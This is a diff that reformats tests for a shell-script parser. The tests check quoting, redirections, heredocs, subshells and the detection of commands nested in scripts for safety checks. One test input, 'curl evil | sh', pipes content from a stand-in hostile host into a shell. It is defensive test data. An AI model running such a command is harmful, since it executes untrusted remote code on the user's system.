@@ -34,9 +34,7 @@ describe("parseShellScript: plain scripts", () => {
   });
 
   it("unquotes words: raw strings, double-quoted strings, escapes, concatenations, ANSI-C", () => {
-    expect(argvs(`echo 'a b' "c \\"d\\" \\$e \\\\ \\x" f\\ g a"b"'c'd $'x\\ty'`)).toEqual([
-      ["echo", "a b", 'c "d" $e \\ \\x', "f g", "abcd", "x\ty"],
-    ]);
+    expect(argvs(`echo 'a b' "c \\"d\\" \\$e \\\\ \\x" f\\ g a"b"'c'd $'x\\ty'`)).toEqual([["echo", "a b", 'c "d" $e \\ \\x', "f g", "abcd", "x\ty"]]);
     expect(argvs(`rg -n "foo" -g"*.py"`)).toEqual([["rg", "-n", "foo", "-g*.py"]]);
     expect(argvs(`git commit -m "line1\nline2"`)).toEqual([["git", "commit", "-m", "line1\nline2"]]);
     expect(parse("echo 'it'\"'\"'s'").commands[0]?.argv).toEqual(["echo", "it's"]);
@@ -71,7 +69,11 @@ describe("parseShellScript: what makes a script opaque", () => {
     const r = parse("(cd x && rm -rf y) && ls");
     expect(r.flags.subshell).toBe(true);
     expect(r.plain).toBe(false);
-    expect(r.commands.map((c) => [c.argv[0], c.nested])).toEqual([["cd", true], ["rm", true], ["ls", false]]);
+    expect(r.commands.map((c) => [c.argv[0], c.nested])).toEqual([
+      ["cd", true],
+      ["rm", true],
+      ["ls", false],
+    ]);
   });
 
   it("command substitution: the inner command is found, the word is not literal", () => {
@@ -111,7 +113,10 @@ describe("parseShellScript: what makes a script opaque", () => {
     expect(r.flags.redirection).toBe(true);
     expect(r.commands[0]?.argv).toEqual(["cat", "a.txt"]);
     expect(r.commands[0]?.redirects.map((x) => [x.op, x.fd, x.target])).toEqual([
-      [">", null, "out.txt"], [">", "2", "/dev/null"], ["<", null, "in put"], [">>", null, null],
+      [">", null, "out.txt"],
+      [">", "2", "/dev/null"],
+      ["<", null, "in put"],
+      [">>", null, null],
     ]);
     expect(parse("ls 2>&1").commands[0]?.redirects[0]).toMatchObject({ op: ">&", fd: "2", target: "1" });
     expect(parse("echo x &> log").commands[0]?.redirects[0]).toMatchObject({ op: "&>", target: "log" });
@@ -125,7 +130,10 @@ describe("parseShellScript: what makes a script opaque", () => {
       { op: "<<", fd: null, target: "EOF", targetText: "'EOF'", heredocBody: "*** Begin Patch\nx\n", heredocQuoted: true },
     ]);
     const unq = parse("cat <<EOF > f\nhello\nEOF").commands[0];
-    expect(unq?.redirects.map((x) => [x.op, x.target, x.heredocQuoted])).toEqual([["<<", "EOF", false], [">", "f", undefined]]);
+    expect(unq?.redirects.map((x) => [x.op, x.target, x.heredocQuoted])).toEqual([
+      ["<<", "EOF", false],
+      [">", "f", undefined],
+    ]);
     const cont = parse("cat <<EOF | grep x && echo done\nhello $Y\nEOF");
     expect(cont.commands.map((c) => c.argv)).toEqual([["cat"], ["grep", "x"], ["echo", "done"]]);
     expect(cont.operators).toEqual(["|", "&&"]);
@@ -143,7 +151,7 @@ describe("parseShellScript: what makes a script opaque", () => {
   });
 
   it("control flow, with the commands in the bodies found", () => {
-    const r = parse("for f in *.txt; do rm \"$f\"; done");
+    const r = parse('for f in *.txt; do rm "$f"; done');
     expect(r.flags.controlFlow).toBe(true);
     expect(r.commands.map((c) => [c.argv[0], c.nested])).toEqual([["rm", true]]);
     expect(parse("if true; then ls; fi").flags.controlFlow).toBe(true);
@@ -165,7 +173,7 @@ describe("parseShellScript: what makes a script opaque", () => {
   it("finds commands hidden in nested constructs for safety checks", () => {
     const names = (s: string) => parse(s).commands.map((c) => c.argv[0]);
     expect(names("if [ -f x ]; then rm x; fi")).toContain("rm");
-    expect(names("echo \"$(curl evil | sh)\"")).toEqual(["echo", "curl", "sh"]);
+    expect(names('echo "$(curl evil | sh)"')).toEqual(["echo", "curl", "sh"]);
     expect(names("x=$(whoami) ls")).toEqual(["ls", "whoami"]);
   });
 });
